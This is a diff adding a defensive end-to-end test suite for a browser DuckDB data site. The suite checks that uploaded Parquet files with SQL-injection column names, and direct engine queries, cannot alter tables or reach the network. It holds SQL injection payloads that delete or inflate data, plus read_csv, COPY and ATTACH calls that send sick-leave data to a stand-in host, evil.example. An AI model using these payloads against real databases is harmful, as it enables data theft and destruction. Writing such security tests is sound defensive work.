@@ -1,0 +1,106 @@
+import { DuckDBInstance } from '@duckdb/node-api';
+import { mkdtempSync, readFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import type { Page } from 'playwright-core';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { openSite, visit, waitForData, type Site } from './helpers/site';
+
+/**
+ * Crafted Parquet files against the production build in Chromium: column names that would be SQL
+ * if pasted (the attacks that once emptied the budget, multiplied it by 10 and sent sick leave to
+ * a foreign host). SYNTHETIC test data only. visit() fails on any foreign request.
+ */
+let site: Site;
+beforeAll(async () => (site = await openSite()));
+afterAll(async () => site?.close());
+
+const HOSTILE = [
+	'x"; DELETE FROM budget; --',
+	'amount_tkr" * 10 AS "amount_tkr',
+	"x\" FROM restricted.sick_leave, read_csv('http://evil.example/leak.csv?d=' || (SELECT string_agg(value::VARCHAR, ',') FROM restricted.sick_leave)) --",
+	"'); ATTACH 'http://evil.example/x.db' AS x; --"
+];
+
+/** A Parquet file (native DuckDB, same version as the browser's) with the given SELECT list. */
+async function parquet(select: string): Promise<Buffer> {
+	const file = join(mkdtempSync(join(tmpdir(), 'tertial-e2e-')), 'f.parquet');
+	const conn = await (await DuckDBInstance.create(':memory:')).connect();
+	await conn.run(`COPY (${select}) TO '${file}' (FORMAT parquet)`);
+	return readFileSync(file);
+}
+const quoted = (name: string) => `"${name.replaceAll('"', '""')}"`;
+const hostileColumns = HOSTILE.map((n, i) => `'${i}' AS ${quoted(n)}`).join(', ');
+
+async function upload(page: Page, table: string, name: string, buffer: Buffer): Promise<string> {
+	await page.selectOption('select', table);
+	await page.setInputFiles('input[type=file]', { name, mimeType: 'application/vnd.apache.parquet', buffer });
+	await page.waitForSelector('[data-testid="upload-result"] .ok, [data-testid="upload-result"] .err');
+	return (await page.textContent('[data-testid="upload-result"]')) ?? '';
+}
+const contents = (page: Page) =>
+	page.evaluate(() =>
+		(window as unknown as { __tertialBench: { contents(): Promise<Record<string, string>> } }).__tertialBench.contents()
+	);
+
+describe('hostile files cannot change a table or reach the network', () => {
+	it('a file of nothing but SQL-like column names is rejected, and every table is as before', async () => {
+		const { page, problems } = await visit(site, '/data/?bench');
+		await waitForData(page);
+		const before = await contents(page);
+		expect(Object.keys(before)).toEqual(expect.arrayContaining(['budget', 'sick_leave', 'staffing', 'measures']));
+		const text = await upload(page, 'budget', 'syntetisk-fientlig.parquet', await parquet(`SELECT ${hostileColumns}`));
+		expect(text).toContain('syntetisk-fientlig.parquet');
+		expect(await page.$('[data-testid="upload-result"] .err')).not.toBeNull();
+		expect(await contents(page)).toEqual(before);
+		expect(problems).toEqual([]);
+	});
+
+	it('valid columns beside hostile ones: only the valid ones are read; nothing else changes', async () => {
+		const { page, problems } = await visit(site, '/data/?bench');
+		await waitForData(page);
+		const before = await contents(page);
+		const file = await parquet(
+			`SELECT '0461' AS kommun, DATE '2024-01-01' AS period_start, DATE '2024-01-31' AS period_end, 'month' AS period_kind,
+				'jan 2024' AS period_label, 'sick_leave_total_pct' AS measure, 'actual' AS value_kind, 'T' AS sex,
+				'Syntetisk enhet' AS unit_area, 6.1::DOUBLE AS value, '%' AS unit, 40 AS n, ${hostileColumns}`
+		);
+		const text = await upload(page, 'sick_leave', 'syntetisk-blandad.parquet', file);
+		expect(text).toContain('1 rad');
+		const after = await contents(page);
+		for (const [table, hash] of Object.entries(before))
+			if (table === 'sick_leave') expect(after[table]).not.toBe(hash);
+			else expect(after[table], table).toBe(hash);
+		expect(after.sick_leave).toMatch(new RegExp(`^${Number(before.sick_leave!.split(':')[0]) + 1}:`));
+		expect(problems).toEqual([]);
+	});
+
+	it('the engine itself refuses URLs, files, a second statement and any change to its settings', async () => {
+		const { page, problems } = await visit(site, '/?bench');
+		await waitForData(page);
+		const refused = await page.evaluate(async () => {
+			const hook = (window as unknown as { __tertialBench: { time(sql: string, runs: number): Promise<number[]> } })
+				.__tertialBench;
+			const out: Record<string, string> = {};
+			for (const [name, text] of Object.entries({
+				readCsv: "SELECT * FROM read_csv('http://evil.example/leak.csv')",
+				readParquet: "SELECT * FROM read_parquet('http://evil.example/x.parquet')",
+				copy: "COPY (SELECT 1) TO 'http://evil.example/x.csv'",
+				attach: "ATTACH 'http://evil.example/x.db' AS x",
+				enable: 'SET enable_external_access = true',
+				unlock: 'SET lock_configuration = false',
+				twoStatements: 'SELECT 1; DROP TABLE budget'
+			}))
+				out[name] = await hook.time(text, 1).then(
+					() => 'ran',
+					(e: unknown) => String(e).slice(0, 300)
+				);
+			return out;
+		});
+		for (const [name, outcome] of Object.entries(refused)) expect(outcome, name).not.toBe('ran');
+		expect(refused.readCsv).toMatch(/Permission|disabled/i);
+		expect(refused.enable).toMatch(/locked/i);
+		expect(refused.twoStatements).toMatch(/multiple statements/i);
+		expect(problems).toEqual([]);
+	});
+});
